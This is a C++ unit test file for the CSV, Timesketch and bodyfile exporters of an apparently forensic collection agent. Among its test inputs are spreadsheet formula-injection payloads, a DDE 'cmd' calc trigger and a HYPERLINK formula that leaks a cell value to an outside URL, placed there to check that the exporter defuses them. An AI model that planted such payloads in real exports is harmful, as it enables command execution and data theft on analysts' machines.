// The csv, timesketch and bodyfile exports over hand-built records (FORMAT.md §Export).
#include <algorithm>
#include <catch2/catch.hpp>
#include <set>
#include <string>
#include <vector>

#include "agent/export/bodyfile.h"
#include "agent/export/csv.h"
#include "agent/export/format_writer.h"
#include "agent/export/json.h"
#include "agent/export/record_types.h"
#include "agent/export/text.h"
#include "agent/export/timesketch.h"
#include "hozen/v1/bundle.pb.h"
#include "hozen/v1/record.pb.h"

using namespace hozen;

namespace {

constexpr std::int64_t kT = 1'764'000'000'123'456'789;  // 2025-11-24T16:00:00.123456789Z

// RFC 4180 reader for the tests: rows of cells, CRLF line ends, quotes doubled.
std::vector<std::vector<std::string>> parse_csv(const std::string& s) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false, in_quotes = false;
  for (std::size_t i = 0; i < s.size(); ++i) {
    char c = s[i];
    if (in_quotes) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        in_quotes = false;
      } else {
        cell += c;
      }
    } else if (c == '"' && cell.empty() && !quoted) {
      in_quotes = quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell);
      cell.clear();
      quoted = false;
    } else if (c == '\r' && i + 1 < s.size() && s[i + 1] == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      quoted = false;
      ++i;
      if (i + 1 < s.size()) rows.emplace_back();
    } else {
      REQUIRE(c != '\n');  // a bare LF outside quotes would split a record
      REQUIRE(c != '"');   // a quote inside an unquoted cell
      cell += c;
    }
  }
  REQUIRE_FALSE(in_quotes);
  return rows;
}

std::size_t column(const exporter::CsvTable& t, const std::string& name) {
  const auto& c = t.columns();
  auto it = std::find(c.begin(), c.end(), name);
  REQUIRE(it != c.end());
  return static_cast<std::size_t>(it - c.begin());
}

std::vector<std::string> lines_of(const std::string& s) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (start < s.size()) {
    auto nl = s.find('\n', start);
    REQUIRE(nl != std::string::npos);  // every line ends in a newline
    out.push_back(s.substr(start, nl - start));
    start = nl + 1;
  }
  return out;
}

v1::Record process_record(const std::string& comm) {
  v1::Record r;
  r.set_index(7);
  r.set_collector("processes");
  r.set_utc_ns(kT);
  auto* p = r.mutable_process();
  p->set_pid(4242);
  p->set_start_utc_ns(kT - 1'000'000'000);
  p->set_comm(comm);
  p->add_argv("/bin/sh");
  p->add_argv("-c");
  p->add_argv("echo \"a,b\"\nnext");
  p->set_exe_path("/tmp/x");
  p->set_nice(-5);
  return r;
}

}  // namespace

TEST_CASE("escape_text keeps UTF-8 and escapes controls, backslash and invalid bytes", "[export]") {
  using exporter::escape_text;
  CHECK(escape_text("/usr/bin/ls") == "/usr/bin/ls");
  CHECK(escape_text("\xe8\xa8\xbc\xe6\x8b\xa0") == "\xe8\xa8\xbc\xe6\x8b\xa0");
  CHECK(escape_text("a|b\nc\rd\\e", "|") == "a\\x7cb\\x0ac\\x0dd\\x5ce");
  CHECK(escape_text(std::string("\xff\x00\xc0\xaf", 4)) == "\\xff\\x00\\xc0\\xaf");
  CHECK(escape_text("\xe8\xa8") == "\\xe8\\xa8");  // truncated sequence
  CHECK(exporter::floor_seconds(-1) == -1);
  CHECK(exporter::floor_seconds(1'999'999'999) == 1);
  CHECK(exporter::floor_micros(-1) == -1);
  CHECK(exporter::timesketch_datetime(kT) == "2025-11-24T16:00:00.123456Z");
  CHECK(exporter::timesketch_datetime(-1) == "1969-12-31T23:59:59.999999Z");
}

TEST_CASE("record type names: header, trailer and every body, each with a message", "[export]") {
  auto names = exporter::record_type_names();
  REQUIRE(names.size() > 10);
  CHECK(names[0] == "header");
  CHECK(names[1] == "trailer");
  for (const auto& n : names) CHECK(exporter::record_type_descriptor(n) != nullptr);
  CHECK(exporter::record_type_descriptor("nope") == nullptr);
  // No body has a column that collides with the record meta columns.
  for (const auto& n : names) {
    auto t = exporter::CsvTable::for_type(n);
    REQUIRE(t);
    std::set<std::string> seen(t->columns().begin(), t->columns().end());
    CHECK(seen.size() == t->columns().size());
  }
}

TEST_CASE("csv: cells quoted by RFC 4180, formulas defused, a stable column layout", "[export]") {
  auto t = exporter::CsvTable::for_type("process");
  REQUIRE(t);
  const auto& cols = t->columns();
  REQUIRE(cols.size() > 5);
  CHECK(cols[0] == "index");
  CHECK(cols[1] == "collector");
  CHECK(cols[2] == "collector_b64");
  CHECK(cols[3] == "utc_ns");
  CHECK(cols[4] == "verified");
  CHECK(cols[5] == "pid");
  CHECK(column(*t, "comm_b64") == column(*t, "comm") + 1);
  CHECK(column(*t, "argv_b64") == column(*t, "argv") + 1);

  std::string out;
  t->append_header(out);
  const std::string hostile_comm = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
  CHECK(t->append_record(out, process_record(hostile_comm), true));
  v1::Record bad = process_record(std::string("\xff\xfe", 2));
  bad.mutable_process()->set_exe_path(std::string("/tmp/a\0b", 8));
  bad.mutable_process()->add_argv("\xc0\xaf");
  CHECK(t->append_record(out, bad, false));
  v1::Record other;
  other.mutable_socket()->set_protocol("tcp");
  CHECK_FALSE(t->append_record(out, other, true));  // another type: nothing

  auto rows = parse_csv(out);
  REQUIRE(rows.size() == 3);
  for (const auto& row : rows) REQUIRE(row.size() == cols.size());
  const auto& r1 = rows[1];
  CHECK(r1[0] == "7");
  CHECK(r1[1] == "processes");
  CHECK(r1[2].empty());
  CHECK(r1[3] == "2025-11-24T16:00:00.123456789Z");
  CHECK(r1[4] == "true");
  CHECK(r1[column(*t, "pid")] == "4242");
  CHECK(r1[column(*t, "nice")] == "-5");  // numbers are never guarded
  CHECK(r1[column(*t, "comm")] == "'" + hostile_comm);
  CHECK(r1[column(*t, "comm_b64")].empty());
  CHECK(r1[column(*t, "argv")] == "[\"/bin/sh\",\"-c\",\"echo \\\"a,b\\\"\\nnext\"]");
  CHECK(r1[column(*t, "start_utc_ns")] == "2025-11-24T15:59:59.123456789Z");
  CHECK(r1[column(*t, "ppid")].empty());  // unset: empty, as JSON omits it
  const auto& r2 = rows[2];
  CHECK(r2[4] == "false");
  CHECK(r2[column(*t, "comm")].empty());
  CHECK(r2[column(*t, "comm_b64")] == "//4=");
  CHECK(r2[column(*t, "exe_path")].empty());  // a NUL moves text to base64
  CHECK(r2[column(*t, "exe_path_b64")] == exporter::base64(std::string("/tmp/a\0b", 8)));
  CHECK(r2[column(*t, "argv")].empty());
  CHECK(r2[column(*t, "argv_b64")].starts_with("[\"L2Jpbi9zaA==\""));
}

TEST_CASE("csv: every formula trigger and an apostrophe get one leading apostrophe", "[export]") {
  for (std::string v : {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'x", "=cmd|' /C calc'!A0"}) {
    std::string out;
    exporter::append_csv_cell(out, v, true);
    auto rows = parse_csv(out + "\r\n");
    REQUIRE(rows.size() == 1);
    REQUIRE(rows[0].size() == 1);
    CHECK(rows[0][0] == "'" + v);
  }
  std::string out;
  exporter::append_csv_cell(out, "-1", false);
  CHECK(out == "-1");
  out.clear();
  exporter::append_csv_cell(out, "a\"b,c", true);
  CHECK(out == "\"a\"\"b,c\"");
  out.clear();
  exporter::append_csv_cell(out, "a\nb", true);
  CHECK(out == "\"a\nb\"");
}

TEST_CASE("csv: nested messages as compact JSON, hex digests, header and trailer tables",
          "[export]") {
  auto t = exporter::CsvTable::for_type("file_entry");
  REQUIRE(t);
  v1::Record r;
  r.set_index(1);
  auto* f = r.mutable_file_entry();
  f->set_path("/a,b\"c\nd");
  f->set_sha256(std::string(32, '\xab'));
  f->add_flags("suid");
  f->set_file_kind(v1::FILE_REGULAR);
  std::string out;
  REQUIRE(t->append_record(out, r, true));
  auto rows = parse_csv(out);
  REQUIRE(rows.size() == 1);
  CHECK(rows[0][column(*t, "path")] == "/a,b\"c\nd");
  std::string hex;
  for (int i = 0; i < 32; ++i) hex += "ab";
  CHECK(rows[0][column(*t, "sha256")] == hex);
  CHECK(rows[0][column(*t, "path_b64")].empty());
  CHECK(rows[0][column(*t, "file_kind")] == "FILE_REGULAR");
  CHECK(rows[0][column(*t, "flags")] == "[\"suid\"]");

  auto st = exporter::CsvTable::for_type("systemd_unit");
  REQUIRE(st);
  v1::Record u;
  u.mutable_systemd_unit()->set_name("x.service");
  u.mutable_systemd_unit()->mutable_source()->set_path("/etc/systemd/system/x.service");
  u.mutable_systemd_unit()->mutable_source()->set_line(3);
  out.clear();
  REQUIRE(st->append_record(out, u, true));
  rows = parse_csv(out);
  CHECK(rows[0][column(*st, "source")] ==
        "{\"path\":\"/etc/systemd/system/x.service\",\"line\":3}");

  auto ht = exporter::CsvTable::for_type("header");
  REQUIRE(ht);
  CHECK(ht->columns()[0] == "format_version");
  v1::Header h;
  h.set_format_version(1);
  h.mutable_host()->set_hostname("box");
  out.clear();
  CHECK_FALSE(ht->append_record(out, r, true));
  CHECK(ht->append_message(out, h));
  rows = parse_csv(out);
  CHECK(rows[0][0] == "1");
  CHECK_FALSE(exporter::CsvTable::for_type("nope"));
}

TEST_CASE("csv: a huge value stays whole and in one row", "[export]") {
  auto t = exporter::CsvTable::for_type("anomaly");
  REQUIRE(t);
  v1::Record r;
  std::string big(3'000'000, 'x');
  big[1000] = '\n';
  big[2000] = '"';
  r.mutable_anomaly()->set_raw(big);
  std::string out;
  REQUIRE(t->append_record(out, r, true));
  auto rows = parse_csv(out);
  REQUIRE(rows.size() == 1);
  CHECK(rows[0][column(*t, "raw")] == big);
}

TEST_CASE("bodyfile: mode strings as ls -l writes them", "[export]") {
  using exporter::mode_string;
  CHECK(mode_string(0100755, v1::FILE_REGULAR) == "-rwxr-xr-x");
  CHECK(mode_string(040755, v1::FILE_DIRECTORY) == "drwxr-xr-x");
  CHECK(mode_string(0120777, v1::FILE_SYMLINK) == "lrwxrwxrwx");
  CHECK(mode_string(0104755, v1::FILE_REGULAR) == "-rwsr-xr-x");
  CHECK(mode_string(0104644, v1::FILE_REGULAR) == "-rwSr--r--");
  CHECK(mode_string(0102755, v1::FILE_REGULAR) == "-rwxr-sr-x");
  CHECK(mode_string(0102745, v1::FILE_REGULAR) == "-rwxr-Sr-x");
  CHECK(mode_string(041777, v1::FILE_DIRECTORY) == "drwxrwxrwt");
  CHECK(mode_string(041776, v1::FILE_DIRECTORY) == "drwxrwxrwT");
  CHECK(mode_string(010600, v1::FILE_FIFO) == "prw-------");
  CHECK(mode_string(0140755, v1::FILE_SOCKET) == "srwxr-xr-x");
  CHECK(mode_string(020620, v1::FILE_CHAR_DEVICE) == "crw--w----");
  CHECK(mode_string(060660, v1::FILE_BLOCK_DEVICE) == "brw-rw----");
  CHECK(mode_string(0644, v1::FILE_REGULAR) == "-rw-r--r--");  // type from the kind
  CHECK(mode_string(0644, v1::FILE_KIND_UNSPECIFIED) == "?rw-r--r--");
  CHECK(mode_string(0xffffffff, v1::FILE_REGULAR) == "?rwsrwsrwt");
}

TEST_CASE("bodyfile: one line of 11 fields per entry, hostile names escaped", "[export]") {
  v1::FileEntry e;
  e.set_path(std::string("/tmp/a|b\nc\rd\\e\xff\x00 \xe8\xa8\xbc", 20));
  e.set_file_kind(v1::FILE_REGULAR);
  e.set_mode(0100644);
  e.set_uid(1000);
  e.set_gid(100);
  e.set_size(12);
  e.set_inode(99);
  e.set_atime_utc_ns(1'700'000'000'999'999'999);
  e.set_mtime_utc_ns(1'600'000'000'000'000'000);
  e.set_ctime_utc_ns(-1);
  e.set_sha256(std::string(32, '\x01'));
  std::string out;
  exporter::append_bodyfile_line(out, e);
  std::string hex64;
  for (int i = 0; i < 32; ++i) hex64 += "01";
  CHECK(out ==
        hex64 +
            "|/tmp/a\\x7cb\\x0ac\\x0dd\\x5ce\\xff\\x00 \xe8\xa8\xbc|99|-rw-r--r--|1000|100|12|"
            "1700000000|1600000000|-1|0\n");

  e.set_md5(std::string(16, '\x02'));  // MD5 wins over SHA-256
  out.clear();
  exporter::append_bodyfile_line(out, e);
  CHECK(out.starts_with("02020202020202020202020202020202|"));

  v1::FileEntry l;
  l.set_path("/tmp/link");
  l.set_file_kind(v1::FILE_SYMLINK);
  l.set_mode(0120777);
  l.set_link_target("../x|y");
  out.clear();
  exporter::append_bodyfile_line(out, l);
  CHECK(out == "0|/tmp/link -> ../x\\x7cy|0|lrwxrwxrwx|0|0|0|0|0|0|0\n");

  v1::FileEntry huge;
  huge.set_path(std::string(1'000'000, '|'));
  out.clear();
  exporter::append_bodyfile_line(out, huge);
  CHECK(std::count(out.begin(), out.end(), '|') == 10);
  CHECK(std::count(out.begin(), out.end(), '\n') == 1);
}

TEST_CASE("timesketch: file times, one event each, zero times skipped", "[export]") {
  v1::Record r;
  r.set_index(12);
  r.set_utc_ns(kT);
  auto* f = r.mutable_file_entry();
  f->set_path("/tmp/\xff\n\"x\"");
  f->set_file_kind(v1::FILE_REGULAR);
  f->set_size(5);
  f->set_mtime_utc_ns(kT);
  f->set_atime_utc_ns(kT + 1000);
  f->set_ctime_utc_ns(kT + 2000);  // btime 0: no event
  std::string out;
  CHECK(exporter::append_timesketch_events(out, r, true, "host\xff") == 3);
  auto lines = lines_of(out);
  REQUIRE(lines.size() == 3);
  CHECK(lines[0].starts_with(
      "{\"message\":\"/tmp/\\\\xff\\\\x0a\\\"x\\\" (regular file, 5 bytes, uid 0)\","
      "\"datetime\":\"2025-11-24T16:00:00.123456Z\",\"timestamp\":1764000000123456,"
      "\"timestamp_desc\":\"Content Modification Time\",\"data_type\":\"hozen:file_entry\","
      "\"hostname\":\"host\\\\xff\",\"record_index\":12,\"record_type\":\"file_entry\","
      "\"verified\":true,\"path_b64\":"));
  CHECK(lines[1].find("\"timestamp_desc\":\"Last Access Time\"") != std::string::npos);
  CHECK(lines[1].find("\"timestamp\":1764000000123457,") != std::string::npos);
  CHECK(lines[2].find("\"timestamp_desc\":\"Metadata Modification Time\"") != std::string::npos);
  CHECK(out.find("Creation Time") == std::string::npos);
}

TEST_CASE("timesketch: reserved keys renamed, nested messages as strings", "[export]") {
  v1::Record r;
  r.set_index(3);
  auto* a = r.mutable_auth_event();
  a->set_kind("sudo");
  a->set_success(false);
  a->set_user("mallory");
  a->set_program("sudo");
  a->set_message("mallory : user NOT in sudoers ; COMMAND=/bin/sh");
  a->set_timestamp("Nov 24 16:00:00");
  a->set_time_utc_ns(kT);
  a->mutable_source()->set_path("/var/log/auth.log");
  a->mutable_source()->set_line(9);
  std::string out;
  REQUIRE(exporter::append_timesketch_events(out, r, false, "h") == 1);
  CHECK(
      out.starts_with("{\"message\":\"sudo (failure): sudo: mallory : user NOT in sudoers ; "
                      "COMMAND=/bin/sh\""));
  CHECK(out.find("\"timestamp_desc\":\"Authentication Event\"") != std::string::npos);
  CHECK(out.find("\"auth_event_message\":\"mallory : user NOT") != std::string::npos);
  CHECK(out.find("\"auth_event_timestamp\":\"Nov 24 16:00:00\"") != std::string::npos);
  CHECK(out.find("\"source\":\"{\\\"path\\\":\\\"/var/log/auth.log\\\",\\\"line\\\":9}\"") !=
        std::string::npos);
  CHECK(out.find("\"verified\":false") != std::string::npos);
  // Exactly one "message" and one "timestamp" key.
  CHECK(out.find("\"message\":", 2) == std::string::npos);
  CHECK(out.find("\"timestamp\":") == out.rfind("\"timestamp\":"));
}

TEST_CASE("timesketch: events of the other record types", "[export]") {
  auto events = [](const v1::Record& r) {
    std::string out;
    exporter::append_timesketch_events(out, r, true, "h");
    return out;
  };
  CHECK(events(process_record("sh")).find("\"timestamp_desc\":\"Process Start\"") !=
        std::string::npos);
  CHECK(events(process_record("sh")).starts_with("{\"message\":\"pid 4242 (sh) started: /tmp/x\""));

  v1::Record s;
  s.set_utc_ns(kT);
  auto* so = s.mutable_socket();
  so->set_protocol("tcp");
  so->set_family(10);
  so->set_state("ESTABLISHED");
  so->set_local_address("::1");
  so->set_local_port(22);
  so->set_remote_address("2001:db8::2");
  so->set_remote_port(5555);
  so->add_owners()->set_comm("sshd");
  CHECK(events(s).starts_with(
      "{\"message\":\"tcp ESTABLISHED [::1]:22 -> [2001:db8::2]:5555 (sshd pid 0)\""));
  CHECK(events(s).find("Connection Observed") != std::string::npos);
  so->set_classification(v1::LISTENING);
  CHECK(events(s).find("Listener Observed") != std::string::npos);

  v1::Record l;
  auto* lr = l.mutable_login_record();
  lr->set_log("wtmp");
  lr->set_entry_type("USER_PROCESS");
  lr->set_user("alice");
  lr->set_line("pts/0");
  lr->set_host("10.0.0.1");
  CHECK(events(l).empty());  // no time: no event
  lr->set_time_utc_ns(kT);
  CHECK(events(l).starts_with(
      "{\"message\":\"wtmp USER_PROCESS: user alice on pts/0 from 10.0.0.1\""));
  CHECK(events(l).find("\"timestamp_desc\":\"Login\"") != std::string::npos);
  lr->set_log("btmp");
  CHECK(events(l).find("\"timestamp_desc\":\"Failed Login\"") != std::string::npos);

  v1::Record ll;
  ll.mutable_lastlog_entry()->set_uid(1000);
  ll.mutable_lastlog_entry()->set_time_utc_ns(kT);
  CHECK(events(ll).find("Last Login") != std::string::npos);

  v1::Record u;
  u.mutable_user_account()->set_name("bob");
  CHECK(events(u).empty());
  u.mutable_user_account()->set_last_change_utc_ns(kT);
  CHECK(events(u).find("Password Change") != std::string::npos);

  v1::Record fi;
  auto* f = fi.mutable_finding();
  f->set_rule_id("HZ-PROC-DELETED-EXE");
  f->set_severity(v1::SEVERITY_HIGH);
  f->set_checklist_id("H1");
  f->set_summary("pid 1 /tmp/x (deleted)");
  CHECK(events(fi).empty());  // event_utc_ns 0: no event
  f->set_event_utc_ns(kT);
  CHECK(events(fi).starts_with(
      "{\"message\":\"[HIGH] HZ-PROC-DELETED-EXE (H1): pid 1 /tmp/x (deleted)\""));

  v1::Record pe;
  auto* p = pe.mutable_persistence_entry();
  p->set_kind("authorized_key");
  p->set_path("/root/.ssh/authorized_keys");
  p->mutable_file()->set_mtime_utc_ns(kT);
  CHECK(events(pe).find("Content Modification Time") != std::string::npos);

  v1::Record pf;
  pf.mutable_preserved_file()->set_path("/etc/crontab");
  pf.mutable_preserved_file()->set_raw("secret contents");
  pf.mutable_preserved_file()->set_mtime_utc_ns(kT);
  CHECK(events(pf).find("secret") == std::string::npos);  // contents left out
  CHECK(events(pf).find("/etc/crontab") != std::string::npos);

  v1::Record k;
  k.set_utc_ns(kT);
  k.mutable_kernel_module()->set_name("x");
  CHECK(events(k).empty());
}

TEST_CASE("format writer: usage errors, type filter, csv column line", "[export]") {
  std::string out;
  auto sink = [&](std::string_view s) { out += s; };
  using exporter::ExportFormat;
  using exporter::FormatWriter;
  auto no_type = FormatWriter::make(ExportFormat::kCsv, {}, sink);
  REQUIRE_FALSE(no_type);
  CHECK(no_type.error().find("file_entry") != std::string::npos);  // lists the types
  CHECK_FALSE(FormatWriter::make(ExportFormat::kCsv, {"process", "socket"}, sink));
  CHECK_FALSE(FormatWriter::make(ExportFormat::kTimesketch, {"nope"}, sink));
  CHECK_FALSE(FormatWriter::make(ExportFormat::kBodyfile, {"process"}, sink));
  CHECK(FormatWriter::make(ExportFormat::kBodyfile, {"file_entry"}, sink));
  CHECK(exporter::parse_export_format("bodyfile") == ExportFormat::kBodyfile);
  CHECK_FALSE(exporter::parse_export_format("xml"));

  auto w = FormatWriter::make(ExportFormat::kCsv, {"process"}, sink);
  REQUIRE(w);
  CHECK(out.empty());  // nothing before the bundle header
  v1::Header h;
  w->header(h);
  CHECK(out.starts_with("index,collector,collector_b64,utc_ns,verified,pid,"));
  w->record(process_record("a"), true);
  v1::Record s;
  s.mutable_socket()->set_protocol("tcp");
  w->record(s, true);
  w->trailer(v1::Trailer());
  CHECK(parse_csv(out).size() == 2);

  out.clear();
  auto ts = FormatWriter::make(ExportFormat::kTimesketch, {"process"}, sink);
  REQUIRE(ts);
  h.mutable_host()->set_hostname("web-1");
  ts->header(h);
  v1::Record fe;
  fe.mutable_file_entry()->set_mtime_utc_ns(kT);
  ts->record(fe, true);  // filtered out
  ts->record(process_record("a"), true);
  auto lines = lines_of(out);
  REQUIRE(lines.size() == 1);
  CHECK(lines[0].find("\"hostname\":\"web-1\"") != std::string::npos);

  out.clear();
  auto bf = FormatWriter::make(ExportFormat::kBodyfile, {}, sink);
  REQUIRE(bf);
  bf->header(h);
  bf->record(fe, true);
  bf->record(process_record("a"), true);
  bf->trailer(v1::Trailer());
  CHECK(lines_of(out).size() == 1);
}
